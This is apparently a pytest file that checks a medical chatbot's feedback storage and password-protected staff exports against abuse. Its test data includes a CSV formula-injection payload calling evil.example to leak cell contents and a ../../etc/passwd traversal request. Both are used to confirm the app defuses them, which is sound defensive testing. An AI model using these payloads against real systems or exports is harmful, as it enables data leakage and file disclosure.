"""Staff data against a real app on 127.0.0.1, driven as an attacker or a careless operator would:
through Gradio's own queue protocol (as the page's script calls it) and raw HTTP.

The same answer voted on 50 times leaves one row; a burst of votes beyond the limit is not stored
and is said; a 10 MB comment is cut and the staff page still loads at once; the exports exist only
behind the staff password, marked no-store, with formulas neutralised, and nothing of them is
ever on disk for the patient app's file route to serve; the database is private; deleting it
while the app runs loses no later vote.
"""

from __future__ import annotations

import json
import os
import sqlite3
import stat
import tempfile
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from conftest import CORPUS
from webserver import fake_engine_for, serving

from chatbot.feedback.records import MAX_COMMENT_CHARS, GapRecord
from chatbot.feedback.store import DB_FILENAME, FeedbackStore
from chatbot.web.chat import THANKS, TOO_MANY
from chatbot.web.server import create_app
from chatbot.web.settings import WebSettings
from chatbot.web.staff_exports import NAMES

pytestmark = pytest.mark.app

STAFF = ("staff", "a-long-staff-password")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Your results")'


@dataclass(frozen=True)
class Site:
    url: str
    data: Path

    @property
    def db(self) -> Path:
        return self.data / DB_FILENAME


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> Any:
    return fake_engine_for(CORPUS, tmp_path_factory.mktemp("staff-data") / "index")


@pytest.fixture
def site(engine: Any, tmp_path: Path) -> Iterator[Site]:
    data = tmp_path / "data"
    settings = WebSettings(data_dir=data, staff_password=STAFF[1])
    with serving(create_app(engine, settings)) as url:
        yield Site(url, data)


class Session:
    """One browser tab's chat session, speaking Gradio's queue protocol (join, then read the
    event stream until the call completes)."""

    def __init__(self, url: str, auth: tuple[str, str] | None = None) -> None:
        self.url = url
        self.auth = auth
        self.hash = uuid.uuid4().hex[:11]
        self.config = httpx.get(f"{url}/config", auth=auth, timeout=30).json()
        self.history: list[Any] = []

    def fn(self, event: str, elem_id: str | None = None, api_name: str | None = None) -> int:
        ids = {c["id"] for c in self.config["components"] if c["props"].get("elem_id") == elem_id}
        for dep in self.config["dependencies"]:
            if api_name is not None and dep.get("api_name") == api_name:
                return int(dep["id"])
            if any(t[1] == event and (elem_id is None or t[0] in ids) for t in dep["targets"]):
                return int(dep["id"])
        raise LookupError(event)

    def join(self, fn_index: int, data: list[Any], event_data: Any = None) -> httpx.Response:
        body = {"data": data, "event_data": event_data, "fn_index": fn_index, "session_hash": self.hash}
        return httpx.post(f"{self.url}/gradio_api/queue/join", json=body, auth=self.auth, timeout=30)

    def call(self, fn_index: int, data: list[Any], event_data: Any = None) -> list[Any]:
        joined = self.join(fn_index, data, event_data)
        assert joined.status_code == 200, joined.text
        return self.result()

    def result(self) -> list[Any]:
        """The outputs of the call joined last."""
        params = {"session_hash": self.hash}
        with httpx.stream(
            "GET", f"{self.url}/gradio_api/queue/data", params=params, auth=self.auth, timeout=60
        ) as stream:
            for line in stream.iter_lines():
                if line.startswith("data:"):
                    msg = json.loads(line[5:])
                    if msg.get("msg") == "process_completed":
                        assert msg.get("success"), msg
                        return list(msg["output"]["data"])
        raise AssertionError("the call never completed")

    def ask(self, question: str) -> int:
        """Ask; the index of the answer's first message (what a vote names)."""
        first = len(self.history) + 1
        _, self.history, _ = self.call(self.fn("submit", api_name="chat"), [question, self.history, None])
        return first

    def vote(self, message: int, liked: bool = True) -> str:
        """Like (or dislike) the message; the status line the patient reads."""
        event = {"index": message, "value": self.history[message]["content"], "liked": liked}
        _, _, status = self.call(self.fn("like", "chatbot"), [None], event)
        return str(status)

    def reason(self, why: str, comment: str) -> str:
        fn = self.fn("click", "reason-send")
        return str(self.call(fn, [None, why, comment])[4])


def count(db: Path, table: str = "feedback") -> int:
    with sqlite3.connect(db) as conn:
        n = int(conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0])
    conn.close()
    return n


def test_the_same_answer_voted_50_times_leaves_one_row(site: Site) -> None:
    tab = Session(site.url)
    answer = tab.ask("What is refractory myeloma?")
    said = [tab.vote(answer, liked=n % 2 == 1) for n in range(50)]
    # dislikes ask for a reason (no line), likes are thanked; past 30 a minute, each is refused
    assert said[:30] == ["", THANKS] * 15 and said[30:] == [TOO_MANY] * 20
    assert count(site.db) == 1
    (row,) = FeedbackStore(site.db).recent_feedback()
    assert row.question == "What is refractory myeloma?" and row.vote == "like"  # the 30th vote


def test_a_burst_of_votes_beyond_the_limit_is_not_stored_and_is_said(site: Site) -> None:
    tab = Session(site.url)
    answers = [tab.ask(f"What is myeloma, part {n}?") for n in range(34)]
    said = [tab.vote(a) for a in answers]
    assert said == [THANKS] * 30 + [TOO_MANY] * 4
    assert count(site.db) == 30


def test_a_10_mb_comment_is_cut_and_the_staff_page_still_loads_at_once(site: Site) -> None:
    tab = Session(site.url)
    answer = tab.ask("What is refractory myeloma?")
    tab.vote(answer, liked=False)
    ten_mb = "A very long complaint. " * 450_000
    refused = tab.join(tab.fn("click", "reason-send"), [None, "other", ten_mb])
    if refused.status_code == 200:  # no body cap in front: the chat cuts it, and says so
        assert "were kept" in str(tab.result()[4])
        assert len(FeedbackStore(site.db).recent_feedback()[0].comment or "") <= MAX_COMMENT_CHARS
    else:  # the site's body cap turns it away before Gradio reads it: nothing stored
        assert 400 <= refused.status_code < 500
        assert FeedbackStore(site.db).recent_feedback()[0].comment is None
    started = time.perf_counter()
    said = tab.reason("other", ten_mb[:400_000])  # under any body cap: the chat cuts it, and says so
    assert "were kept" in said and time.perf_counter() - started < 60  # generous guard
    (row,) = FeedbackStore(site.db).recent_feedback()
    assert len(row.comment or "") <= MAX_COMMENT_CHARS and row.reason == "other"
    # a 10 MB comment left by an older version, straight in the file: the page shows it cut
    with sqlite3.connect(site.db) as conn:
        conn.execute("UPDATE feedback SET comment = ?", ("x " * 5_000_000,))
    conn.close()
    staff = Session(site.url + "/staff", auth=STAFF)
    started = time.perf_counter()
    feedback, _, _, problem = staff.call(staff.fn("load"), [])
    took = time.perf_counter() - started
    assert problem == "" and len(json.dumps(feedback)) < 100_000 and took < 10  # 105 s before
    print(f"staff tables with a 10 MB comment stored: {took * 1000:.0f} ms")


def test_the_exports_need_the_staff_password_and_are_never_cached(site: Site) -> None:
    FeedbackStore(site.db).record_gap(GapRecord(HYPERLINK, (), "results", "b1", ()))
    for name in NAMES:
        url = f"{site.url}/staff/export/{name}"
        assert httpx.get(url).status_code == 401
        assert httpx.get(url, auth=("staff", "wrong")).status_code == 401
        ok = httpx.get(url, auth=STAFF)
        assert ok.status_code == 200 and ok.headers["cache-control"] == "no-store"
        assert ok.headers["content-disposition"].startswith("attachment; filename=")
    gaps = httpx.get(f"{site.url}/staff/export/gaps.csv", auth=STAFF).text
    assert "'=HYPERLINK(" in gaps and "\n=HYPERLINK" not in gaps and ",=HYPERLINK" not in gaps
    jsonl = httpx.get(f"{site.url}/staff/export/gaps.jsonl", auth=STAFF).text
    assert json.loads(jsonl)["question"] == HYPERLINK  # data, kept exactly
    missing = httpx.get(f"{site.url}/staff/export/../../etc/passwd", auth=STAFF)
    assert missing.status_code in (401, 404)
    assert httpx.get(f"{site.url}/staff/export/secrets.csv", auth=STAFF).status_code == 404


def test_nothing_of_an_export_is_on_disk_for_the_patient_file_route(site: Site) -> None:
    marker = f"grapefruit-{uuid.uuid4().hex}"
    FeedbackStore(site.db).record_gap(GapRecord(marker, (), "grapefruit", "b1", ()))
    since = time.time() - 1
    staff = Session(site.url + "/staff", auth=STAFF)
    assert not [c for c in staff.config["components"] if c["type"] in ("downloadbutton", "file")]
    staff.call(staff.fn("load"), [])  # the tables refreshed, as the page does when opened
    for name in ("gaps.csv", "gaps.jsonl"):
        assert marker in httpx.get(f"{site.url}/staff/export/{name}", auth=STAFF).text
    roots = {Path(tempfile.gettempdir()), Path(os.environ.get("GRADIO_TEMP_DIR", tempfile.gettempdir()))}
    holding = []
    for root in roots:
        for folder, _, files in os.walk(root):
            for name in files:
                path = Path(folder, name)
                try:
                    info = path.stat()
                    recent = info.st_mtime >= since and info.st_size < 1_000_000
                    if recent and marker.encode() in path.read_bytes():
                        holding.append(path)
                except OSError:
                    continue
    holding = [p for p in holding if p.parent != site.data]  # the database and its -wal hold it, rightly
    assert holding == []
    # and the patient app's file route finds no staff export where the old page put them
    for guess in (f"{tempfile.gettempdir()}/chatbot-staff-exports-x/gaps.csv", "gaps.csv"):
        assert httpx.get(f"{site.url}/gradio_api/file={guess}").status_code in (403, 404)


def test_the_database_and_its_folder_are_private(site: Site) -> None:
    tab = Session(site.url)
    tab.vote(tab.ask("What is refractory myeloma?"))
    assert stat.S_IMODE(site.db.stat().st_mode) == 0o600
    assert stat.S_IMODE(site.data.stat().st_mode) == 0o700


def test_deleting_the_database_while_the_app_runs_then_voting_works(site: Site) -> None:
    tab = Session(site.url)
    first = tab.ask("What is refractory myeloma?")
    assert tab.vote(first) == THANKS
    for path in site.data.iterdir():  # the operator "cleans up" while it serves
        path.unlink()
    second = tab.ask("How is it treated?")
    assert tab.vote(second) == THANKS
    assert tab.vote(first, liked=False) == ""  # a dislike: the reason panel opens, no line yet
    votes = FeedbackStore(site.db).recent_feedback()
    assert [(v.question, v.vote) for v in votes] == [
        ("What is refractory myeloma?", "dislike"),
        ("How is it treated?", "like"),
    ]
    staff = Session(site.url + "/staff", auth=STAFF)
    assert staff.call(staff.fn("load"), [])[3] == ""  # the staff page: nothing wrong to say
